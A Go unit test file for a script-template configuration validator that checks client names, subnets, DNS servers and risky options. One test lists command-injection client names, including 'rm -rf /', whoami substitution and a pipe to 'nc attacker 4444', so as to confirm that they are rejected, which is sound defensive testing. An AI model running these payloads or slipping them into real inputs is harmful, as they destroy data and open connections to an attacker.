package factory

import (
	"strings"
	"testing"

	"github.com/RustySnipers/optio/models"

	"github.com/stretchr/testify/assert"
)

func smartPrepTemplate(t *testing.T) *models.Template {
	t.Helper()
	registry, err := NewRegistry("")
	assert.NoError(t, err)
	tmpl, err := registry.GetTemplate("smart_prep")
	assert.NoError(t, err)
	return tmpl
}

func TestValidate_AllRequiredVarsSupplied(t *testing.T) {
	validator := NewConfigValidator()

	result := validator.Validate(smartPrepTemplate(t), "Acme Corp", "192.168.1.0/24", models.ScriptConfigOptions{})

	assert.True(t, result.Valid)
	assert.Empty(t, result.Errors)
}

func TestValidate_MissingClientName(t *testing.T) {
	validator := NewConfigValidator()

	result := validator.Validate(smartPrepTemplate(t), "", "192.168.1.0/24", models.ScriptConfigOptions{})

	assert.False(t, result.Valid)
	assert.NotEmpty(t, result.Errors)
}

func TestValidate_MissingRequiredTemplateVariable(t *testing.T) {
	validator := NewConfigValidator()
	tmpl := &models.Template{
		Info: models.TemplateInfo{
			Name:         "agent_deploy",
			RequiredVars: []string{"AGENT_INSTALLER"},
		},
	}

	result := validator.Validate(tmpl, "Acme Corp", "192.168.1.0/24", models.ScriptConfigOptions{})

	assert.False(t, result.Valid)
	found := false
	for _, e := range result.Errors {
		if strings.Contains(e, "AGENT_INSTALLER") {
			found = true
		}
	}
	assert.True(t, found, "expected an error naming AGENT_INSTALLER, got %v", result.Errors)
}

func TestValidate_ShellMetacharactersRejected(t *testing.T) {
	validator := NewConfigValidator()
	tmpl := smartPrepTemplate(t)

	unsafeNames := []string{
		"Acme; rm -rf /",
		"Acme$(whoami)",
		"Acme`whoami`",
		"Acme\" -or $true",
		"Acme|nc attacker 4444",
	}

	for _, name := range unsafeNames {
		result := validator.Validate(tmpl, name, "192.168.1.0/24", models.ScriptConfigOptions{})
		assert.False(t, result.Valid, "Client name %q should be rejected", name)
	}
}

func TestValidate_InvalidSubnet(t *testing.T) {
	validator := NewConfigValidator()
	tmpl := smartPrepTemplate(t)

	invalidSubnets := []string{"", "192.168.1.0", "192.168.1.0/33", "not-a-subnet"}

	for _, subnet := range invalidSubnets {
		result := validator.Validate(tmpl, "Acme Corp", subnet, models.ScriptConfigOptions{})
		assert.False(t, result.Valid, "Subnet %q should be rejected", subnet)
	}
}

func TestValidate_DNSServers(t *testing.T) {
	validator := NewConfigValidator()
	tmpl := smartPrepTemplate(t)

	result := validator.Validate(tmpl, "Acme Corp", "192.168.1.0/24", models.ScriptConfigOptions{
		ConfigureDNS: true,
	})
	assert.False(t, result.Valid, "DNS enabled without servers should fail")

	result = validator.Validate(tmpl, "Acme Corp", "192.168.1.0/24", models.ScriptConfigOptions{
		ConfigureDNS: true,
		DNSServers:   []string{"8.8.8.8", "not-an-ip"},
	})
	assert.False(t, result.Valid, "Malformed DNS server IP should fail")

	result = validator.Validate(tmpl, "Acme Corp", "192.168.1.0/24", models.ScriptConfigOptions{
		ConfigureDNS: true,
		DNSServers:   []string{"8.8.8.8", "1.1.1.1"},
	})
	assert.True(t, result.Valid)
}

func TestValidate_RiskyConfigurationWarnings(t *testing.T) {
	validator := NewConfigValidator()
	tmpl := smartPrepTemplate(t)

	result := validator.Validate(tmpl, "Acme Corp", "192.168.1.0/24", models.ScriptConfigOptions{
		EnableWinRM:    true,
		CustomCommands: []string{"Get-Process"},
	})

	assert.True(t, result.Valid)
	assert.Len(t, result.Warnings, 2)
}
